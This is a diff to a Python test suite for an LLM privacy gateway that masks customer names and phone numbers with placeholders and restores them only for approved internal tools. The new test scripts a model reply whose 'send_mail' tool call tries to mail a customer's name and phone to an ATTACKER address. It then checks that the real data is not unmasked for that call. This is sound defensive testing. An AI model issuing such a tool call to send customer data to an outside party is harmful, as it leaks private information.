@@ -12,12 +12,15 @@ from __future__ import annotations
 
 import json
 from collections.abc import Iterator
+from pathlib import Path
 from typing import Any
 
 import openai
 import pytest
 
 from tests.conftest import fake_model, openai_provider
+from tests.fakes.base import Reply
+from tests.fakes.fake_anthropic import FakeAnthropic, message, message_events
 from tests.fakes.scripted_openai import (
     ScriptedOpenAI,
     chunk,
@@ -65,9 +68,9 @@ def client(gw: GatewayHandle) -> openai.OpenAI:
     return openai.OpenAI(base_url=gw.base_url, api_key="local", max_retries=0, timeout=30)
 
 
-def ask(gw: GatewayHandle, content: str = DOC, **kw: Any) -> Any:
+def ask(gw: GatewayHandle, content: str = DOC, model: str = "foreign", **kw: Any) -> Any:
     return client(gw).chat.completions.create(
-        model="foreign", messages=[{"role": "user", "content": content}], **kw)
+        model=model, messages=[{"role": "user", "content": content}], **kw)
 
 
 def sent_text(fake: ScriptedOpenAI) -> str:
@@ -250,3 +253,42 @@ def test_placeholder_completed_in_the_final_chunk_is_restored(setup: tuple[Gatew
                                   chunk([delta({"content": first(b, "氏名")[2:] + "様"}, "stop")])]))
     text = "".join(c.choices[0].delta.content or "" for c in ask(gw, stream=True) if c.choices)
     assert text == f"宛先は{NAME}様"
+
+
+@pytest.mark.parametrize("stream_", [False, True], ids=["plain", "stream"])
+def test_anthropic_tool_use_follows_the_same_rule(lt: LoopThread, tmp_path: Path, stream_: bool) -> None:
+    """Through the Anthropic adapter: tool_use blocks (streamed as input_json_delta fragments cut
+    mid-placeholder) become OpenAI tool calls, restored by the same rule."""
+    fake = lt.run(FakeAnthropic().start())
+    cfg = {"providers": {"claude": {"kind": "anthropic", "base_url": fake.url, "api_key": "${VENDOR_KEY}",
+                                    "max_retries": 0}},
+           "models": [fake_model("claude", "claude", region="US", capabilities={"tools": True})],
+           "default_model": "claude", "privacy": {"restore": {"internal_tools": ["lookup_customer"]}}}
+    gw = start_gateway(lt, cfg, tmp_path, {"VENDOR_KEY": "k"})
+    try:
+        # The first name and phone of DOC are 〔氏名1〕 and 〔電話1〕 (reading order; checked below).
+        uses = [("toolu_a", "lookup_customer", {"name": "〔氏名1〕"}),
+                ("toolu_b", "send_mail", {"to": ATTACKER, "body": "〔氏名1〕様 〔電話1〕"})]
+        fake.enqueue(Reply(events=message_events(["確認します"], tool_uses=uses)) if stream_
+                     else Reply(json=message("確認します", tool_uses=uses)))
+        args: dict[int, str] = {}
+        names: dict[int, str] = {}
+        if stream_:
+            for c in ask(gw, model="claude", tools=TOOLS, stream=True):
+                for ch in c.choices:
+                    for tc in ch.delta.tool_calls or []:
+                        if tc.function and tc.function.name:
+                            names[tc.index] = tc.function.name
+                        if tc.function and tc.function.arguments:
+                            args[tc.index] = args.get(tc.index, "") + tc.function.arguments
+        else:
+            for i, tc in enumerate(ask(gw, model="claude", tools=TOOLS).choices[0].message.tool_calls or []):
+                names[i], args[i] = tc.function.name, tc.function.arguments
+        got = {names[i]: json.loads(a) for i, a in args.items()}
+        sent = fake.requests[-1].body.decode()
+        assert NAME not in sent and "〔氏名1〕" in sent and "〔電話1〕" in sent
+        assert got["lookup_customer"] == {"name": NAME}
+        assert got["send_mail"] == {"to": ATTACKER, "body": "〔氏名1〕様 〔電話1〕"}
+    finally:
+        gw.stop()
+        lt.run(fake.stop())
